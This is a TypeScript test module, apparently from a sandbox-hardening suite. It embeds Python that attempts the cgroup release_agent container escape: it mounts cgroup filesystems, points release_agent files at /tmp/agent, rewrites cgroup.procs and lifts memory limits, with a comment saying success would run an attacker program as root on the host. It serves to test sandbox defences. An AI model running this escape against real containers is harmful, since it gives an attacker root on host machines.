// If this worked: the kernel would start a program of the attacker as root on the host when a group becomes empty.
import type { Attack } from '../attack.ts';

const CHANGES_THE_MACHINE = 'It would change the control groups of the machine that runs the tests';

export const attack: Attack = {
  programs: [
    {
      language: 'python',
      control: CHANGES_THE_MACHINE,
      code: () => `
import glob
libc = ctypes.CDLL(None, use_errno=True)
def mount(kind, data):
    os.makedirs('/tmp/group', exist_ok=True)
    if libc.mount(b'none', b'/tmp/group', kind, 0, data) < 0: raise OSError(ctypes.get_errno(), 'mount')
    return 'mounted'
for kind, data in ((b'cgroup', b'rdma'), (b'cgroup', b'memory'), (b'cgroup2', None)):
    attempt(f'mount {kind} {data}', lambda: mount(kind, data))
for path in glob.glob('/sys/fs/cgroup/**/release_agent', recursive=True) + ['/sys/fs/cgroup/release_agent', '/sys/fs/cgroup/memory/release_agent']:
    attempt(path, lambda: write_text(path, '/tmp/agent'))
for path in glob.glob('/sys/fs/cgroup/**/cgroup.procs', recursive=True)[:50] + ['/sys/fs/cgroup/cgroup.procs', '/sys/fs/cgroup/memory/cgroup.procs']:
    attempt(path, lambda: write_text(path, '0'))
for path in glob.glob('/sys/fs/cgroup/**/memory*limit*', recursive=True)[:50] + glob.glob('/sys/fs/cgroup/**/memory.max', recursive=True)[:50]:
    attempt(path, lambda: write_text(path, '-1'))
attempt('a group of its own', lambda: os.mkdir('/sys/fs/cgroup/mine') or 'made')
`,
    },
  ],
};
